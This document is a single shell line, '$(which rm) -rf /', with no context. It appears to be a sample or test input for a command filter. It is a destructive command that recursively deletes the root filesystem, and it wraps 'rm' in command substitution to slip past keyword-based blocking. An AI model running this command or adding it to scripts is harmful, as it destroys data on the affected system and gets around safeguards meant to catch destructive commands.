$(which rm) -rf /
